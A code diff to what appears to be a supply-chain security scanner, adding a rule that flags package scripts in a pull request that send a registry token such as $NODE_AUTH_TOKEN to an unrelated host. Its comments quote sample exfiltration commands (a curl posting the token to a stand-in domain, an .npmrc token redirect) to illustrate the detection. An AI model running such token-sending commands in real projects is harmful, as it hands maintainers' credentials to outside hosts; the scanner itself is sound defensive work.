@@ -1,5 +1,6 @@
 import type { KeyedFinding } from '../../ecosystems/finding.js';
 import { makeFinding } from '../../ecosystems/finding.js';
+import { sendsData, sendsSecretElsewhere } from '../../ecosystems/build-code/behaviors.js';
 import { findPipeToShell, pipeCommandKey } from '../../ecosystems/shell/pipe-to-shell.js';
 import { findRemoteInstalls, remoteInstallFinding } from '../../ecosystems/shell/remote-installs.js';
 import { redirectedRegistryTokens } from '../../ecosystems/github-actions/secret-rules.js';
@@ -13,7 +14,9 @@ import { readableSides } from './readable-sides.js';
  * commit or a URL without a hash (`"postinstall": "npm i -g https://host/tool.tgz"`), new in the PR;
  * and `publish-token-redirect`: a script the PR adds or changes (any name: `release`,
  * `prepublishOnly`) hands a registry's token to another host (`echo "//npm.cdn.dev/:_authToken=$NPM_TOKEN"
- * > .npmrc && npm publish`), which no script of the base handed it to.
+ * > .npmrc && npm publish`), which no script of the base handed it to; `suspicious-network-endpoint`:
+ * a script the PR adds or changes that sends a token named for one service as data (a body, a form,
+ * a URL) to another's host (`curl -d "k=$NODE_AUTH_TOKEN" https://stats.pkg-insights.dev/`).
  */
 export function checkPipeToShell(files: readonly ParsedFile[]): KeyedFinding[] {
   const findings: KeyedFinding[] = [];
@@ -44,6 +47,20 @@ export function checkPipeToShell(files: readonly ParsedFile[]): KeyedFinding[] {
             }),
           );
         }
+      }
+      // `suspicious-network-endpoint`: a script the PR adds or changes that sends a token named for one service as data to another's host.
+      if (sides.base?.scripts?.[name] !== script && (sendsData(script, 'shell') || /\b(?:curl|wget)\b/.test(script)) && sendsSecretElsewhere(script, new Map())) {
+        findings.push(
+          makeFinding({
+            id: 'suspicious-network-endpoint',
+            severity: 'high',
+            title: `Script "${name}" sends a secret named for another service to a host`,
+            detail: `${file.path} script "${name}" puts a variable named for a service or product (a registry token such as $NPM_TOKEN or $NODE_AUTH_TOKEN) into the data or URL of a request to a host that is not that service's: whoever runs the script with the token set (a release job, a maintainer's shell) hands it over. A token goes to its own service as a header or a login; remove the request, and rotate the token if it ran.`,
+            path: file.path,
+            line: lineOf(sides.headContent, `"${name}"`),
+            subject: `script-secret-sent:${name}`,
+          }),
+        );
       }
       // `remote-package-install`: a script that installs a package from a moving git ref or a URL without a hash.
       for (const install of findRemoteInstalls(script)) {
